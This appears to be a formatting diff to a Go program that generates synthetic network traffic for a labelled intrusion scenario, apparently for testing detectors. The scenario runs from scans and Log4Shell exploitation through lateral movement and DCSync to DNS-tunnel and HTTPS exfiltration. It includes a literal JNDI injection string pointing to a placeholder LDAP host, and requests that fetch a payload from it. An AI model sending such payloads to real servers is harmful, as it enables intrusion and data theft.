@@ -82,10 +82,14 @@ func (w *world) intrusion() {
 func (w *world) scans(f *foes) {
 	n := w.net
 	r := newRandom(w.seed, "scan")
-	wide := w.step(Step{Phase: model.PhaseRecon, Technique: "T1595.001", From: f.scanner.ip, Proto: "tcp", Detector: "horizontal_scan",
-		Description: "horizontal scan of the DMZ (10.20.50.0/24) on ports 80, 443, 22 and 8080"})
-	deep := w.step(Step{Phase: model.PhaseRecon, Technique: "T1595.002", From: f.scanner.ip, To: n.web.ip, Proto: "tcp", Detector: "vertical_scan",
-		Description: "vertical scan of the web server: 1100 ports"})
+	wide := w.step(Step{
+		Phase: model.PhaseRecon, Technique: "T1595.001", From: f.scanner.ip, Proto: "tcp", Detector: "horizontal_scan",
+		Description: "horizontal scan of the DMZ (10.20.50.0/24) on ports 80, 443, 22 and 8080",
+	})
+	deep := w.step(Step{
+		Phase: model.PhaseRecon, Technique: "T1595.002", From: f.scanner.ip, To: n.web.ip, Proto: "tcp", Detector: "vertical_scan",
+		Description: "vertical scan of the web server: 1100 ports",
+	})
 	probe := func(t int64, to *host, port uint16, step *Step, answers func(to *host, port uint16) bool, refuse float64) {
 		c := w.syn(t, r, f.scanner, to, port, step)
 		switch {
@@ -129,8 +133,10 @@ func (w *world) scans(f *foes) {
 		}
 	})
 	w.at(w.moment(0, 58, 30), func() {
-		ports := []uint16{1433, 1521, 2049, 2375, 3000, 3306, 3389, 4444, 5000, 5432, 5601, 5672, 5900, 5985, 6379, 6443, 7001, 8000, 8008,
-			8009, 8080, 8081, 8443, 8500, 8888, 9000, 9090, 9092, 9200, 9300, 9418, 10000, 10250, 11211, 15672, 27017, 28017, 50000, 50070}
+		ports := []uint16{
+			1433, 1521, 2049, 2375, 3000, 3306, 3389, 4444, 5000, 5432, 5601, 5672, 5900, 5985, 6379, 6443, 7001, 8000, 8008,
+			8009, 8080, 8081, 8443, 8500, 8888, 9000, 9090, 9092, 9200, 9300, 9418, 10000, 10250, 11211, 15672, 27017, 28017, 50000, 50070,
+		}
 		for p := uint16(1); len(ports) < 1100; p++ {
 			ports = append(ports, p)
 		}
@@ -147,12 +153,18 @@ func (w *world) scans(f *foes) {
 func (w *world) exploit(f *foes) {
 	n := w.net
 	r := newRandom(w.seed, "exploit")
-	break1 := w.step(Step{Phase: model.PhaseExploit, Technique: "T1190", From: f.scanner.ip, To: n.web.ip, Port: 80, Proto: "tcp", Detector: "profile:log4shell", Edge: true,
-		Description: "JNDI injection (as CVE-2021-44228) in HTTP headers and query of the public web server"})
-	back := w.step(Step{Phase: model.PhaseExploit, Technique: "T1190", From: n.web.ip, To: f.stager.ip, Port: 1389, Proto: "tcp", Edge: true,
-		Description: "the web server follows the injected reference: LDAP to the staging server"})
-	load := w.step(Step{Phase: model.PhaseExploit, Technique: "T1105", From: n.web.ip, To: f.stager.ip, Port: 8000, Proto: "tcp", Detector: "profile:executable", Edge: true,
-		Description: "the web server downloads a Java class and an ELF program over HTTP"})
+	break1 := w.step(Step{
+		Phase: model.PhaseExploit, Technique: "T1190", From: f.scanner.ip, To: n.web.ip, Port: 80, Proto: "tcp", Detector: "profile:log4shell", Edge: true,
+		Description: "JNDI injection (as CVE-2021-44228) in HTTP headers and query of the public web server",
+	})
+	back := w.step(Step{
+		Phase: model.PhaseExploit, Technique: "T1190", From: n.web.ip, To: f.stager.ip, Port: 1389, Proto: "tcp", Edge: true,
+		Description: "the web server follows the injected reference: LDAP to the staging server",
+	})
+	load := w.step(Step{
+		Phase: model.PhaseExploit, Technique: "T1105", From: n.web.ip, To: f.stager.ip, Port: 8000, Proto: "tcp", Detector: "profile:executable", Edge: true,
+		Description: "the web server downloads a Java class and an ELF program over HTTP",
+	})
 	attacker := *f.scanner
 	attacker.os = linux
 	t := w.now
@@ -163,9 +175,11 @@ func (w *world) exploit(f *foes) {
 		"${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/" + code + "}",
 	} {
 		c := w.tcp(t, r, &attacker, n.web, 80, break1)
-		q := httpRequest{method: "GET", host: "www.northgate.example", path: "/search?q=" + pick(r, words), agent: "Mozilla/5.0 zgrab/0.x",
+		q := httpRequest{
+			method: "GET", host: "www.northgate.example", path: "/search?q=" + pick(r, words), agent: "Mozilla/5.0 zgrab/0.x",
 			headers: []string{"Accept: */*", "X-Api-Version: " + probe, "Referer: " + probe, "Connection: close"}, status: "200 OK",
-			kind: "text/html; charset=utf-8", server: "Apache-Coyote/1.1", extra: []string{"Connection: close"}, answer: page(r, "Search", 2300)}
+			kind: "text/html; charset=utf-8", server: "Apache-Coyote/1.1", extra: []string{"Connection: close"}, answer: page(r, "Search", 2300),
+		}
 		if i == 2 {
 			q.agent, q.path = probe, "/search?q="+strings.NewReplacer("{", "%7B", "}", "%7D", "$", "%24", "+", "%2B", "=", "%3D").Replace(probe)
 		}
@@ -188,13 +202,17 @@ func (w *world) exploit(f *foes) {
 	c.fin(orig)
 
 	c = w.tcp(c.t+20*millisecond, r, n.web, f.stager, 8000, load)
-	c.http(httpRequest{method: "GET", host: "198.51.100.77:8000", path: "/Exploit7hQx.class", agent: "Java/1.8.0_181",
+	c.http(httpRequest{
+		method: "GET", host: "198.51.100.77:8000", path: "/Exploit7hQx.class", agent: "Java/1.8.0_181",
 		headers: []string{"Accept: text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", "Connection: keep-alive"},
-		status:  "200 OK", kind: "application/java-vm", server: "SimpleHTTP/0.6 Python/3.11.2", answer: r.append([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34}, 1216)})
+		status:  "200 OK", kind: "application/java-vm", server: "SimpleHTTP/0.6 Python/3.11.2", answer: r.append([]byte{0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34}, 1216),
+	})
 	c.fin(resp)
 	c = w.tcp(c.t+900*millisecond, r, n.web, f.stager, 8000, load)
-	c.http(httpRequest{method: "GET", host: "198.51.100.77:8000", path: "/upd/.x64", agent: "curl/7.74.0", headers: []string{"Accept: */*"},
-		status: "200 OK", kind: "application/octet-stream", server: "SimpleHTTP/0.6 Python/3.11.2", answer: executable(r, 612*1024)})
+	c.http(httpRequest{
+		method: "GET", host: "198.51.100.77:8000", path: "/upd/.x64", agent: "curl/7.74.0", headers: []string{"Accept: */*"},
+		status: "200 OK", kind: "application/octet-stream", server: "SimpleHTTP/0.6 Python/3.11.2", answer: executable(r, 612*1024),
+	})
 	c.fin(resp)
 }
 
@@ -223,19 +241,25 @@ func (w *world) beacons(f *foes) {
 		})
 	}
 	report(n.web, f.c2, "cdn."+domainC2, implant, false, w.moment(1, 23, 2), time.Minute, 0.2,
-		w.step(Step{Phase: model.PhaseC2, Technique: "T1071.001", From: n.web.ip, To: f.c2.ip, Port: 443, Proto: "tcp", Domain: "cdn." + domainC2, Detector: "beacon", Edge: true,
-			Description: "the implant reports every 60 s, shortened by up to 20 %, over TLS 1.2 with a self-signed certificate"}))
+		w.step(Step{
+			Phase: model.PhaseC2, Technique: "T1071.001", From: n.web.ip, To: f.c2.ip, Port: 443, Proto: "tcp", Domain: "cdn." + domainC2, Detector: "beacon", Edge: true,
+			Description: "the implant reports every 60 s, shortened by up to 20 %, over TLS 1.2 with a self-signed certificate",
+		}))
 	report(n.admin1, f.c2late, "static."+domainLate, implantGo, true, w.moment(4, 22, 20), 5*time.Minute, 0.1,
-		w.step(Step{Phase: model.PhaseC2, Technique: "T1071.001", From: n.admin1.ip, To: f.c2late.ip, Port: 443, Proto: "tcp", Domain: "static." + domainLate, Detector: "beacon", Edge: true,
-			Description: "the implant on the administrator's workstation reports every 300 s, shortened by up to 10 %, over TLS 1.3"}))
+		w.step(Step{
+			Phase: model.PhaseC2, Technique: "T1071.001", From: n.admin1.ip, To: f.c2late.ip, Port: 443, Proto: "tcp", Domain: "static." + domainLate, Detector: "beacon", Edge: true,
+			Description: "the implant on the administrator's workstation reports every 300 s, shortened by up to 10 %, over TLS 1.3",
+		}))
 }
 
 // internalScan looks for ways on from the web server.
 func (w *world) internalScan() {
 	n := w.net
 	r := newRandom(w.seed, "internal scan")
-	step := w.step(Step{Phase: model.PhaseDiscovery, Technique: "T1046", From: n.web.ip, Proto: "tcp", Detector: "horizontal_scan",
-		Description: "the web server scans 10.20.10.0/24 and 10.20.20.0/24 on ports 445, 3389 and 22"})
+	step := w.step(Step{
+		Phase: model.PhaseDiscovery, Technique: "T1046", From: n.web.ip, Proto: "tcp", Detector: "horizontal_scan",
+		Description: "the web server scans 10.20.10.0/24 and 10.20.20.0/24 on ports 445, 3389 and 22",
+	})
 	known := map[netip.Addr]*host{}
 	for _, h := range n.inside {
 		known[h.ip] = h
@@ -267,8 +291,10 @@ func (w *world) internalScan() {
 func (w *world) toApplication() {
 	n := w.net
 	r := newRandom(w.seed, "ssh")
-	step := w.step(Step{Phase: model.PhaseTraversal, Technique: "T1021.004", From: n.web.ip, To: n.app.ip, Port: 22, Proto: "tcp", Detector: "profile:ssh", Edge: true,
-		Description: "SSH from the web server to the application server with a stolen key"})
+	step := w.step(Step{
+		Phase: model.PhaseTraversal, Technique: "T1021.004", From: n.web.ip, To: n.app.ip, Port: 22, Proto: "tcp", Detector: "profile:ssh", Edge: true,
+		Description: "SSH from the web server to the application server with a stolen key",
+	})
 	c := w.tcp(w.now, r, n.web, n.app, 22, step)
 	c.ssh(paramikoClient, opensshServer)
 	c.typing(6 * minute)
@@ -285,14 +311,18 @@ func (w *world) toApplication() {
 func (w *world) toFiles() {
 	n := w.net
 	r := newRandom(w.seed, "smb")
-	step := w.step(Step{Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
-		Description: "SMB to ADMIN$ of the file server, program copied and started as a service"})
+	step := w.step(Step{
+		Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
+		Description: "SMB to ADMIN$ of the file server, program copied and started as a service",
+	})
 	s := w.smb(w.now, r, n.web, n.files, "svc_backup", step)
 	w.psexec(s, r, "wbengsvc.exe", 284*1024)
 	s.end()
 
-	pipe := w.step(Step{Phase: model.PhaseC2, Technique: "T1090.001", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
-		Description: "the web server steers the file server's implant through a named pipe, about once a minute"})
+	pipe := w.step(Step{
+		Phase: model.PhaseC2, Technique: "T1090.001", From: n.web.ip, To: n.files.ip, Port: 445, Proto: "tcp", Edge: true,
+		Description: "the web server steers the file server's implant through a named pipe, about once a minute",
+	})
 	q := newRandom(w.seed, "pipe")
 	var p *smbSession
 	w.every(s.c.t+90*second, func(t int64) int64 {
@@ -333,8 +363,10 @@ func (w *world) psexec(s *smbSession, r *random, name string, size int) {
 // longTunnel is the operator's reverse tunnel.
 func (w *world) longTunnel(f *foes) {
 	r := newRandom(w.seed, "tunnel")
-	step := w.step(Step{Phase: model.PhaseC2, Technique: "T1572", From: w.net.web.ip, To: f.tunnel.ip, Port: 8443, Proto: "tcp", Detector: "long_connection", Edge: true,
-		Description: "reverse tunnel over TLS without a server name, open for 5.5 hours, used in bursts"})
+	step := w.step(Step{
+		Phase: model.PhaseC2, Technique: "T1572", From: w.net.web.ip, To: f.tunnel.ip, Port: 8443, Proto: "tcp", Detector: "long_connection", Edge: true,
+		Description: "reverse tunnel over TLS without a server name, open for 5.5 hours, used in bursts",
+	})
 	c := w.tcp(w.now, r, w.net.web, f.tunnel, 8443, step)
 	c.tls(tlsSession{client: golang, modern: true})
 	c.rest()
@@ -365,8 +397,10 @@ func (w *world) longTunnel(f *foes) {
 func (w *world) toAdministrator() {
 	n := w.net
 	r := newRandom(w.seed, "desktop")
-	step := w.step(Step{Phase: model.PhaseTraversal, Technique: "T1021.001", From: n.files.ip, To: n.admin1.ip, Port: 3389, Proto: "tcp", Edge: true,
-		Description: "remote desktop from the file server to the administrator's workstation"})
+	step := w.step(Step{
+		Phase: model.PhaseTraversal, Technique: "T1021.001", From: n.files.ip, To: n.admin1.ip, Port: 3389, Proto: "tcp", Edge: true,
+		Description: "remote desktop from the file server to the administrator's workstation",
+	})
 	w.rdp(w.now, r, n.files, n.admin1, "svc_backup", 9*minute, step)
 }
 
@@ -375,12 +409,18 @@ func (w *world) toAdministrator() {
 func (w *world) toController() {
 	n := w.net
 	r := newRandom(w.seed, "controller")
-	read := w.step(Step{Phase: model.PhaseDiscovery, Technique: "T1087.002", From: n.admin1.ip, To: n.dc.ip, Port: 389, Proto: "tcp", Edge: true,
-		Description: "the whole directory is read over LDAP"})
-	move := w.step(Step{Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.admin1.ip, To: n.dc.ip, Port: 445, Proto: "tcp", Edge: true,
-		Description: "SMB to ADMIN$ of the domain controller, program copied and started as a service"})
-	sync := w.step(Step{Phase: model.PhaseCredential, Technique: "T1003.006", From: n.admin1.ip, To: n.dc.ip, Port: 49667, Proto: "tcp", Edge: true,
-		Description: "directory replication (DRSGetNCChanges) asked by a workstation"})
+	read := w.step(Step{
+		Phase: model.PhaseDiscovery, Technique: "T1087.002", From: n.admin1.ip, To: n.dc.ip, Port: 389, Proto: "tcp", Edge: true,
+		Description: "the whole directory is read over LDAP",
+	})
+	move := w.step(Step{
+		Phase: model.PhaseTraversal, Technique: "T1021.002", From: n.admin1.ip, To: n.dc.ip, Port: 445, Proto: "tcp", Edge: true,
+		Description: "SMB to ADMIN$ of the domain controller, program copied and started as a service",
+	})
+	sync := w.step(Step{
+		Phase: model.PhaseCredential, Technique: "T1003.006", From: n.admin1.ip, To: n.dc.ip, Port: 49667, Proto: "tcp", Edge: true,
+		Description: "directory replication (DRSGetNCChanges) asked by a workstation",
+	})
 	t := w.ldap(w.now, r, n.admin1, 900, read)
 	w.at(t+11*minute, func() {
 		s := w.smb(w.now, r, n.admin1, n.dc, "admin", move)
@@ -418,8 +458,10 @@ func (w *world) replicate(r *random, step *Step) {
 func (w *world) dnsTunnel(f *foes) {
 	n := w.net
 	r := newRandom(w.seed, "dns tunnel")
-	step := w.step(Step{Phase: model.PhaseExfil, Technique: "T1048.003", From: n.app.ip, To: f.names.ip, Port: 53, Proto: "udp", Domain: domainTunnel, Via: []netip.Addr{n.dc.ip},
-		Detector: "dns_tunnel", Edge: true, Description: "data in DNS queries (TXT and NULL) through the company's resolver, about 10 queries a second for 20 minutes"})
+	step := w.step(Step{
+		Phase: model.PhaseExfil, Technique: "T1048.003", From: n.app.ip, To: f.names.ip, Port: 53, Proto: "udp", Domain: domainTunnel, Via: []netip.Addr{n.dc.ip},
+		Detector: "dns_tunnel", Edge: true, Description: "data in DNS queries (TXT and NULL) through the company's resolver, about 10 queries a second for 20 minutes",
+	})
 	c := w.between(w.now, r, n.app, n.dc, protoUDP, false)
 	c.step, c.last = step, orig
 	c.p[orig].port, c.p[resp].port = n.app.ephemeral(r), 53
@@ -450,8 +492,10 @@ func (w *world) exfiltration(f *foes) {
 	n := w.net
 	r := newRandom(w.seed, "exfiltration")
 	name := "eu." + domainDrop
-	step := w.step(Step{Phase: model.PhaseExfil, Technique: "T1048.002", From: n.files.ip, To: f.drop.ip, Port: 443, Proto: "tcp", Domain: name, Edge: true,
-		Description: "30 MB uploaded over HTTPS in six parts"})
+	step := w.step(Step{
+		Phase: model.PhaseExfil, Technique: "T1048.002", From: n.files.ip, To: f.drop.ip, Port: 443, Proto: "tcp", Domain: name, Edge: true,
+		Description: "30 MB uploaded over HTTPS in six parts",
+	})
 	left := 30_000_000
 	parts := 6
 	w.every(w.now, func(t int64) int64 {
